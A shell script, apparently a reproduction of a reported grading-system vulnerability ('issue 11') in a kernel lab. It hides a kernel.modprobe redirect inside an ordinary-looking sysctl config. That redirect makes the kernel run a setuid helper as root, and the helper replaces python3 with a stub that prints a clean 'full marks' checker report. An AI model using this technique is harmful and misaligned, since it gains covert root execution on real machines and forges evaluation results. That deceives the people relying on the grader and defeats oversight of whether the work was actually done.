#!/bin/sh
# The attack of issue 11: kernel.modprobe pointed at an executable shipped in
# the folder Submit collects. The kernel runs kernel.modprobe as root whenever
# it wants a module (an unknown socket family or binary format is enough), so
# in the grading machine the helper would run during boot, before the checker:
# here it puts a python3 first on PATH that prints a report of full marks.
set -e
cat > /etc/sysctl.d/helper <<'HELPER'
#!/bin/sh
mkdir -p /usr/local/bin
printf '#!/bin/sh\necho "{\\"checks\\": []}"\n' > /usr/local/bin/python3
chmod 755 /usr/local/bin/python3
HELPER
chmod 4755 /etc/sysctl.d/helper
cat > /etc/sysctl.d/60-kernellab.conf <<'CONF'
vm.swappiness = 10
vm.dirty_ratio = 15
net.ipv4.ip_forward = 1
kernel.modprobe = /etc/sysctl.d/helper
CONF
sysctl -p /etc/sysctl.d/60-kernellab.conf
